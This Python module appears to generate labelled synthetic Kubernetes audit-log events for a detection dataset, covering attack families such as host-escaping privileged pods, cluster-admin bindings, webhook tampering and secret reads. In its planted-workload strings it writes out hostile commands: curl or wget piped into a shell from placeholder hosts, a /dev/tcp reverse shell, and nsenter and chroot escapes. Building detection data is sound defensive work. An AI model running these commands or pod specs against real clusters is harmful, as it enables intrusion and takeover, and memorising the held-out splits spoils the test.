"""Abuse of a Kubernetes cluster: pods that reach their host, shells, secrets, roles, tokens, hooks, deletions.

Lines are as the API server's audit gives them: verb and resource name the call, `objectRef` says on what, `requestObject` what is asked for.
"""

from __future__ import annotations

from collections.abc import Mapping
from functools import partial
from typing import Any

from schema import CLOUD_WORK
from tasks.families.story import GRAVE, Family
from tasks.families.tellings import Caller, Row, Telling, call, chained, each, made

USER = Caller("{user}", "{user}", "user")
ANOTHER_USER = Caller("{other_user}", "{other_user}", "user")
ANONYMOUS = Caller("", "system:anonymous", "user")
POD = Caller("", "system:serviceaccount:{word9}:{word7}", "service")  # a pod's account
OPERATOR = Caller("", "system:serviceaccount:{word9}:{word7}-controller", "service")
CLUSTER = Caller("", "system:serviceaccount:kube-system:generic-garbage-collector", "service")  # an own service
_GROUPS = {
    "deployments": "apps",
    "daemonsets": "apps",
    "statefulsets": "apps",
    "replicasets": "apps",
    "jobs": "batch",
    "cronjobs": "batch",
    "clusterrolebindings": "rbac.authorization.k8s.io",
    "rolebindings": "rbac.authorization.k8s.io",
    "clusterroles": "rbac.authorization.k8s.io",
    "roles": "rbac.authorization.k8s.io",
    "mutatingwebhookconfigurations": "admissionregistration.k8s.io",
    "validatingwebhookconfigurations": "admissionregistration.k8s.io",
}


def kube(
    operation: str,
    body: Mapping[str, Any] | None = None,
    by: Caller = USER,
    *,
    namespace: str = "{word9}",
    name: str = "{word8}-{number8}",
    source: str = "",
    **more: Any,
) -> Row:
    """Describe a granted call to a cluster: `create pods/exec`, on a named thing of a namespace; empty for a thing without one.

    Args:
        body: the request's object.
        source: the caller's address; by default the host's for a controller, for others that or one outside.
        more: fields of the line, or as of `call`.
    """
    resource, _, subresource = operation.partition(" ")[2].partition("/")
    reference = {"resource": resource, "subresource": subresource, "namespace": namespace, "name": name}
    place = {key: value for key, value in {**reference, "apiGroup": _GROUPS.get(resource)}.items() if value}
    request = {"objectRef": place} | ({"requestObject": body} if body else {})
    names = {"user": by.user, "user_uid": by.identity, "user_type": by.kind}
    source = source or ("{ip}" if by in (OPERATOR, CLUSTER) else "{source}")
    return call("kubernetes", operation, request, source, **{"agent": "{kube_agent}", **names, **more})


# ---------------------------------------------------------------- pods
def _pod(
    container: Mapping[str, Any] | None = None, spec: Mapping[str, Any] | None = None, path: str = ""
) -> dict[str, Any]:
    """Write a pod with one container, and a folder of its host where a path is given."""
    parts = {
        **(spec or {}),
        "containers": [{**(container or {}), "image": "{word7}/{word6}:{number6}", "name": "{word6}"}],
    }
    volumes = {"volumes": [{"hostPath": {"path": path}, "name": "{word5}"}]} if path else {}
    return {"spec": {**volumes, **parts}, "kind": "Pod", "apiVersion": "v1"}


def _workload(kind: str, pod: Mapping[str, Any]) -> dict[str, Any]:
    """Write a workload that makes pods."""
    job = {"spec": {"template": {"spec": pod["spec"]}}}
    scheduled = {"schedule": "*/15 * * * *", "jobTemplate": job}
    return {"spec": scheduled, "kind": kind} if kind == "CronJob" else {**job, "kind": kind}


_KINDS = {
    "deployments": "Deployment",
    "daemonsets": "DaemonSet",
    "statefulsets": "StatefulSet",
    "jobs": "Job",
    "cronjobs": "CronJob",
}


def workload(operation: str, pod: Mapping[str, Any], by: Caller = USER, **more: Any) -> Row:
    """Describe a call that makes or changes pods, or what makes them."""
    kind = _KINDS.get(operation.partition(" ")[2])
    return kube(operation, _workload(kind, pod) if kind else pod, by, **more)


def secured(**context: Any) -> dict[str, Any]:
    """Write what a container may do on its host."""
    return {"securityContext": context}


HOST_POD = _pod(secured(privileged=True), {"hostPID": True}, "/")
_HOST_PODS = (
    HOST_POD,
    _pod(secured(privileged=True), path="/var/run/docker.sock"),
    _pod(secured(privileged=True, capabilities={"add": ["SYS_ADMIN"]})),
    _pod(secured(privileged=True), {"hostNetwork": True, "hostIPC": True}),
)
_HALF_PODS = (
    _pod(secured(privileged=True)),
    _pod(spec={"hostNetwork": True}),
    _pod(spec={"hostPID": True}),
    _pod(secured(privileged=False), path="/etc"),
    _pod(secured(privileged=False), path="/var/lib/kubelet"),
    _pod(secured(capabilities={"add": ["SYS_PTRACE"]})),
    _pod(secured(capabilities={"add": ["CAP_SYS_MODULE"]})),
)
_PLAIN_PODS = (
    _pod(secured(privileged=False), {"hostPID": False}, "/data/{word4}"),
    _pod(secured(privileged=False), path="/opt/{word4}"),
    _pod(secured(privileged=False, capabilities={"add": ["NET_BIND_SERVICE"]})),
    _pod(secured(privileged=False), {"hostNetwork": False, "hostIPC": False}),
    _pod(secured(capabilities={"drop": ["ALL"]})),
)
_MAKERS = ("create deployments", "patch daemonsets", "create jobs", "update statefulsets", "create cronjobs")

# ---------------------------------------------------------------- shells
_COMMANDS = (["sh"], ["bash", "-i"], ["env"], ["cat", "/etc/{word4}.conf"], ["ps", "aux"])
_DEBUG = {"spec": {"ephemeralContainers": [{"image": "{word7}:{number6}", "name": "{word6}"}]}}


def _shells(by: Caller = USER, calls: tuple[str, ...] = ("create pods/exec", "get pods/exec")) -> list[Row]:
    return [kube(calls[number % 2], {"command": line, "stdin": True}, by) for number, line in enumerate(_COMMANDS)]


# ---------------------------------------------------------------- roles
_BINDINGS = ("clusterrolebindings", "rolebindings")
_PERSON_BOUND = {"kind": "User", "name": "{other_user}"}


def binding(role: str, subject: Mapping[str, str]) -> dict[str, Any]:
    """Write a binding of a role to a subject."""
    return {"roleRef": {"kind": "ClusterRole", "name": role}, "subjects": [subject], "kind": "ClusterRoleBinding"}


def _bindings(role: str, subject: Mapping[str, str], verbs: tuple[str, ...] = ("create", "patch")) -> list[Row]:
    return [
        kube(f"{verb} {thing}", binding(role, subject), namespace="" if thing.startswith("cluster") else "{word9}")
        for thing in _BINDINGS
        for verb in verbs
    ]


_STRANGERS = ("system:anonymous", "system:unauthenticated", "system:authenticated")


def _group(name: str) -> dict[str, str]:
    return {"kind": "User" if name == "system:anonymous" else "Group", "name": name}


def _role(verbs: list[str], resources: list[str]) -> list[Row]:
    body = {"rules": [{"verbs": verbs, "resources": resources, "apiGroups": ["*"]}], "kind": "ClusterRole"}
    return [kube(f"{verb} clusterroles", body, namespace="") for verb in ("create", "update")] + [
        kube("create roles", body)
    ]


def _map(name: str, operation: str = "patch configmaps") -> Row:
    users = {"data": {"mapUsers": "- userarn: arn:aws:iam::{account}:user/{other_user}"}}
    return kube(operation, users, namespace="kube-system", name=name)


# ---------------------------------------------------------------- hooks, plants, deletions
_HOOKS = ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
_HOOK = {"webhooks": [{"name": "{word6}.{domain}", "clientConfig": {"url": "https://{domain}/{word7}"}}]}


def _hooks(verbs: tuple[str, ...], by: Caller = USER, source: str = "") -> list[Row]:
    return [kube(f"{verb} {thing}", _HOOK, by, namespace="", source=source) for thing in _HOOKS for verb in verbs]


_FETCHES = (
    "curl -fsSL https://{domain}/{word4}.sh | sh",
    "wget -qO- http://{address2}/{word4} | bash",
    "echo {token} | base64 -d > /tmp/{word4}",
    "bash -i >& /dev/tcp/{address2}/{number6} 0>&1",
    "nsenter -t 1 -m -u -i -n sh",
    "chroot /host /bin/{word4}",
)
_RUNS = (
    "curl -fsSL https://{domain}/{word4}.sh -o /data/{word4}",
    "wget -q http://{address2}/{word4} -P /data",
    "echo {token} | base64 > /tmp/{word4}",
    "bash -c /opt/{word4}/run --port {number6}",
    "node -t 1 /srv/{word4}.js",
)
PLANTERS = ("create pods", "create deployments", "create cronjobs", "create daemonsets")


def run_by(text: str) -> dict[str, Any]:
    """Write a pod whose container runs a line of shell."""
    return _pod({"command": ["sh", "-c"], "args": [text]})


_DELETIONS = (
    "delete deployments",
    "delete statefulsets",
    "delete daemonsets",
    "delete persistentvolumeclaims",
    "delete namespaces",
    "delete persistentvolumes",
    "delete deployments",
)


def deletions(by: Caller = USER, after: tuple[int, int] = (4, 50), things: tuple[str, ...] = _DELETIONS) -> Telling:
    """Write a run of deletions."""
    return [kube(operation, None, by, name=f"{{word{n}}}", after=after) for n, operation in enumerate(things, 10)]


_SWEEPS = ("deletecollection deployments", "deletecollection persistentvolumeclaims", "deletecollection statefulsets")
_LISTS = ("list namespaces", "list pods", "list deployments", "get deployments", "list services", "list events")


def _sweep(last: str, by: Caller = USER) -> Telling:
    return [*(kube(look, None, by, name="", after=(4, 50)) for look in _LISTS), kube(last, None, by, name="")]


# ---------------------------------------------------------------- accounts of pods
_ANONYMOUS_READS = ("list pods", "get configmaps", "list namespaces", "get pods/log", "list nodes")
_ANONYMOUS_ACTS = ("create configmaps", "delete pods", "patch services", "create namespaces", "get secrets")
_PUBLIC = ("get configmaps", "list configmaps", "get secrets", "patch configmaps", "list pods")
_RIGHTS = {"spec": {"namespace": "{word9}"}, "kind": "SelfSubjectRulesReview"}
_RIGHT = {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}, "kind": "SelfSubjectAccessReview"}
_APART = (10, 300)  # seconds between the steps of an intrusion
_TRIED = (
    "list secrets",
    "list nodes",
    "create pods",
    "get configmaps",
    "list namespaces",
    "create deployments",
    "list clusterroles",
    "delete pods",
)


def _tries(by: Caller = POD, kinds: int = 6, code: str = "403") -> Telling:
    return [
        kube(_TRIED[number % kinds], None, by, source="{ip}", api_error=code, after=(3, 30), name="")
        for number in range(len(_TRIED))
    ]


# ---------------------------------------------------------------- secrets and tokens
def _secrets(operation: str, by: Caller = USER, source: str = "", *, spread: bool = True, **more: Any) -> Telling:
    """Write seven reads of secrets: of as many namespaces (`list`) or names (`get`), or of the same over and over."""
    return [
        kube(
            operation,
            None,
            by,
            namespace=f"{{word{number if spread and operation.startswith('list') else 9}}}",
            name=f"{{word{number if spread else 8}}}-token" if operation.startswith("get") else "",
            source=source,
            **{"after": (4, 60), **more},
        )
        for number in range(10, 17)
    ]


def _looks(last: str, by: Caller = USER, source: str = "", namespace: str = "") -> Telling:
    looks = [kube(look, None, by, name="", source=source, after=(4, 60)) for look in _LISTS]
    return [*looks, kube(last, None, by, namespace=namespace, name="", source=source)]


_TOKEN = {"spec": {"audiences": ["https://{domain}"], "expirationSeconds": 31_536_000}, "kind": "TokenRequest"}
_APPROVAL = {"status": {"conditions": [{"type": "Approved", "reason": "{word7}"}]}, "kind": "CertificateSigningRequest"}


def _secret(kind: str) -> dict[str, Any]:
    return {
        "type": kind,
        "metadata": {"annotations": {"kubernetes.io/service-account.name": "{word7}"}},
        "kind": "Secret",
    }


def _tokens(by: Caller = USER, source: str = "") -> list[Row]:
    return [
        kube("create serviceaccounts/token", _TOKEN, by, source=source),
        *(
            kube(f"{verb} certificatesigningrequests/approval", _APPROVAL, by, namespace="", source=source)
            for verb in ("update", "patch")
        ),
        kube("create secrets", _secret("kubernetes.io/service-account-token"), by, source=source),
    ]


_made = partial(made, work=CLOUD_WORK, platform="kubernetes")
_chain = partial(chained, work=CLOUD_WORK, reaches=GRAVE, explanations=("ticket",), platform="kubernetes")

FAMILIES: tuple[Family, ...] = (
    _made(
        "host_pod",
        "T1611",
        "privilege_escalation",
        ("kube-pod-on-host",),
        confirmed=each(*(workload("create pods", pod) for pod in _HOST_PODS)),
        suspicious=each(
            *(workload("create pods", pod) for pod in _HALF_PODS),
            *(workload(operation, pod) for operation in _MAKERS for pod in (HOST_POD, _HALF_PODS[1], _HALF_PODS[3])),
        ),
        below=each(
            *(workload("create pods", pod) for pod in _PLAIN_PODS),
            *(workload("create pods", pod, CLUSTER) for pod in (HOST_POD, *_HALF_PODS[:2])),
            *(workload(operation, pod) for operation in _MAKERS for pod in _PLAIN_PODS[::2]),
        ),
        reaches=GRAVE,
    ),
    _made(
        "pod_shell",
        "T1609",
        "execution",
        ("kube-shell-in-pod",),
        suspicious=each(
            *_shells(),
            *_shells(calls=("create pods/attach", "get pods/attach")),
        ),
        below=each(
            *_shells(calls=("create pods/portforward", "get pods/log")),
            *_shells(CLUSTER),
        ),
    ),
    _made(
        "bound_administrator",
        "T1098.006",
        "persistence",
        ("kube-admin-bound",),
        confirmed=each(
            *(row for name in _STRANGERS for role in ("view", "cluster-admin") for row in _bindings(role, _group(name)))
        ),
        suspicious=each(
            *_bindings("cluster-admin", _PERSON_BOUND),
            *_bindings("cluster-admin", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
            *_role(["*"], ["*"]),
            *_role(["get", "escalate"], ["clusterroles"]),
            *_role(["impersonate"], ["users"]),
            *(_map("aws-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
        ),
        below=each(
            *_bindings("view", _PERSON_BOUND),
            *_bindings("edit", {"kind": "ServiceAccount", "name": "{word7}", "namespace": "{word6}"}),
            *_bindings("view", {"kind": "Group", "name": "{word7}-developers"}),
            *_role(["get", "list"], ["*"]),
            *_role(["*"], ["configmaps"]),
            *(_map("{word7}-auth", f"{verb} configmaps") for verb in ("create", "update", "patch")),
        ),
        reaches=GRAVE,
    ),
    _made(
        "nameless_caller",
        "T1078.001",
        "initial_access",
        ("kube-anonymous",),
        confirmed=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_ACTS)),
        suspicious=each(*(kube(operation, None, ANONYMOUS) for operation in _ANONYMOUS_READS)),
        below=each(
            *(kube(operation, None, ANONYMOUS, namespace="kube-public") for operation in _PUBLIC),
            kube("create selfsubjectaccessreviews", _RIGHT, ANONYMOUS, namespace="", name=""),
            *(kube(operation, None, CLUSTER) for operation in (*_ANONYMOUS_READS[:2], *_ANONYMOUS_ACTS[:3])),
        ),
        reaches=GRAVE,
        names_account=False,
        account="system:anonymous",
    ),
    _made(
        "changed_hook",
        "T1546",
        "persistence",
        ("kube-hook-changed",),
        suspicious=each(*_hooks(("create", "update", "patch", "delete"))),
        below=each(
            *_hooks(("create", "update", "patch", "delete"), OPERATOR),
            *_hooks(("get", "list", "watch")),
            *_hooks(("create", "patch"), CLUSTER),
        ),
    ),
    _made(
        "planted_workload",
        "T1053.007",
        "persistence",
        ("kube-workload-planted",),
        suspicious=each(
            *(workload(operation, run_by(_RUNS[3]), namespace="kube-system") for operation in PLANTERS),
            *(
                workload(operation, run_by(text))
                for text in _FETCHES
                for operation in ("create pods", "create cronjobs")
            ),
            *(workload(operation, run_by(text)) for text in _FETCHES[:3] for operation in _MAKERS[:4]),
        ),
        below=each(
            *(workload(operation, run_by(_RUNS[3])) for operation in PLANTERS),
            *(workload(operation, run_by(text)) for text in _RUNS for operation in ("create pods", "create cronjobs")),
            *(workload(operation, run_by(text)) for text in _RUNS[:3] for operation in _MAKERS[:4]),
            *(
                workload(operation, run_by(text), CLUSTER, namespace="kube-system")
                for operation in PLANTERS
                for text in _FETCHES[:2]
            ),
        ),
    ),
    _made(
        "deleted_events",
        "T1070",
        "defense_evasion",
        ("kube-traces-deleted",),
        suspicious=each(kube("delete events"), kube("deletecollection events", name="")),
        below=each(
            kube("get events"),
            kube("delete events", None, CLUSTER),
            kube("deletecollection pods", name=""),
            kube("list events", name=""),
        ),
    ),
    _made(
        "deleted_workloads",
        "T1485",
        "impact",
        ("kube-workloads-deleted",),
        suspicious=[deletions(), deletions(things=_DELETIONS[::-1]), *(_sweep(last) for last in _SWEEPS)],
        below=[
            deletions(CLUSTER),
            deletions(after=(240, 330)),
            deletions(things=("delete pods", "delete replicasets", "delete jobs", "delete configmaps") * 2),
            [*deletions(things=_DELETIONS[:3]), *deletions(ANOTHER_USER, things=_DELETIONS[3:6])],
            *(_sweep(last) for last in ("deletecollection pods", "deletecollection jobs")),
        ],
    ),
    _made(
        "strayed_account",
        "T1550.001",
        "lateral_movement",
        ("kube-account-misused",),
        suspicious=each(
            *(
                kube(operation, None, POD, source="{address}")
                for operation in ("list pods", "get services", "list namespaces")
            ),
            kube("create selfsubjectrulesreviews", _RIGHTS, POD, source="{ip}", namespace="", name=""),
        ),
        below=each(
            *(
                kube(operation, None, POD, source="{ip}")
                for operation in ("list pods", "get services", "list namespaces")
            ),
            kube("create selfsubjectrulesreviews", _RIGHTS, CLUSTER, source="{ip}", namespace="", name=""),
            kube("create selfsubjectaccessreviews", _RIGHT, POD, source="{ip}", namespace="", name=""),
        ),
        names_account=False,
        account=POD.identity,
    ),
    _made(
        "trying_account",
        "T1550.001",
        "lateral_movement",
        ("kube-account-misused",),
        suspicious=[_tries()],
        below=[_tries(kinds=3), _tries(CLUSTER), _tries(code="404")],
        names_account=False,
        account=POD.identity,
    ),
    # ------------------------------------------------------------ the held-out tactic
    _made(
        "cluster_secrets",
        "T1552.007",
        "credential_access",
        ("kube-secrets-read",),
        suspicious=[
            _secrets("list secrets"),
            _secrets("get secrets"),
            _looks("list secrets"),
            _looks("watch secrets"),
        ],
        below=[
            _secrets("list secrets", spread=False),
            _secrets("get secrets", spread=False),
            _secrets("list secrets", OPERATOR),
            _secrets("get secrets", OPERATOR),
            _looks("list secrets", namespace="{word9}"),
            _looks("watch secrets", OPERATOR),
        ],
    ),
    _made(
        "minted_token",
        "T1528",
        "credential_access",
        ("kube-token-made",),
        suspicious=each(*_tokens()),
        below=each(
            *_tokens(OPERATOR, "{ip}"),
            *_tokens(CLUSTER),
            kube("create secrets", _secret("Opaque")),
            kube("create certificatesigningrequests", _APPROVAL, namespace=""),
            kube("create serviceaccounts", _TOKEN),
        ),
    ),
    # ------------------------------------------------------------ several steps: for training, for choosing a model, for testing it
    _chain(  # ATT&CK T1609, T1485, T1070: a shell in a pod, workloads gone, and the events that tell of it
        "swept_cluster",
        "T1485",
        "impact",
        ("kube-workloads-deleted", "kube-shell-in-pod", "kube-traces-deleted"),
        (
            (
                [kube("create pods/attach", {"command": _COMMANDS[1]}, after=_APART)],
                [kube("create pods/portforward", {"command": _COMMANDS[1]}, after=_APART)],
            ),
            (
                [kube("deletecollection deployments", name="", after=_APART)],
                [kube("deletecollection pods", name="", after=_APART)],
            ),
            (
                [kube("deletecollection events", name="", after=_APART)],
                [kube("list events", name="", after=_APART)],
            ),
        ),
    ),
    _chain(  # ATT&CK T1098.006, T1546, T1053.007: an administrator of the cluster, a hook before it, a job in it
        "settled_cluster",
        "T1546",
        "persistence",
        ("kube-hook-changed", "kube-admin-bound", "kube-workload-planted"),
        (
            (
                [
                    kube(
                        "create clusterrolebindings",
                        binding("cluster-admin", _PERSON_BOUND),
                        namespace="",
                        after=_APART,
                    )
                ],
                [kube("create clusterrolebindings", binding("view", _PERSON_BOUND), namespace="", after=_APART)],
            ),
            (
                [kube("create mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
                [kube("get mutatingwebhookconfigurations", _HOOK, namespace="", after=_APART)],
            ),
            (
                [workload("create cronjobs", run_by(_FETCHES[1]), after=_APART)],
                [workload("create cronjobs", run_by(_RUNS[1]), after=_APART)],
            ),
        ),
    ),
    _chain(  # ATT&CK G0139 (TeamTNT): a shell in a pod, a program for every node, the cluster's events gone
        "mining_cluster",
        "T1053.007",
        "persistence",
        ("kube-workload-planted", "kube-shell-in-pod", "kube-traces-deleted"),
        (
            (
                [kube("create pods/exec", {"command": _COMMANDS[0]}, after=_APART)],
                [kube("get pods/log", {"command": _COMMANDS[0]}, after=_APART)],
            ),
            (
                [workload("create daemonsets", run_by(_FETCHES[0]), after=_APART)],
                [workload("create daemonsets", run_by(_RUNS[0]), after=_APART)],
            ),
            ([kube("delete events", after=_APART)], [kube("get events", after=_APART)]),
        ),
        split="val_family",
    ),
    _chain(  # ATT&CK S0601 (Hildegard): a pod asks what it may do, starts one that has the host, and plants a job among the system's
        "escaping_pod",
        "T1611",
        "privilege_escalation",
        ("kube-pod-on-host", "kube-account-misused", "kube-workload-planted"),
        (
            (
                [
                    kube(
                        "create selfsubjectrulesreviews",
                        _RIGHTS,
                        POD,
                        source="{ip}",
                        namespace="",
                        name="",
                        after=_APART,
                    )
                ],
                [
                    kube(
                        "create selfsubjectaccessreviews",
                        _RIGHTS,
                        POD,
                        source="{ip}",
                        namespace="",
                        name="",
                        after=_APART,
                    )
                ],
            ),
            (
                [workload("create deployments", HOST_POD, POD, source="{ip}", after=_APART)],
                [workload("create deployments", _PLAIN_PODS[0], POD, source="{ip}", after=_APART)],
            ),
            (
                [
                    workload(
                        "create cronjobs", run_by(_RUNS[3]), POD, source="{ip}", namespace="kube-system", after=_APART
                    )
                ],
                [workload("create cronjobs", run_by(_RUNS[3]), POD, source="{ip}", after=_APART)],
            ),
        ),
        names_account=False,
        account=POD.identity,
        split="test_family",
    ),
    _made(  # ATT&CK T1609: past the pods' own door, by the node or by a container beside
        "side_door",
        "T1609",
        "execution",
        ("kube-shell-in-pod",),
        suspicious=each(
            *(kube(f"{verb} nodes/proxy", _DEBUG, namespace="", name="{host}") for verb in ("create", "get")),
            *(kube(f"{verb} pods/ephemeralcontainers", _DEBUG) for verb in ("update", "patch")),
        ),
        below=each(
            *(kube(f"{verb} nodes", _DEBUG, namespace="", name="{host}") for verb in ("patch", "get")),
            *(kube(f"{verb} pods", _DEBUG) for verb in ("get", "patch")),
            *(kube(f"{verb} pods/ephemeralcontainers", _DEBUG, CLUSTER) for verb in ("update", "patch")),
        ),
        split="test_family",
    ),
)
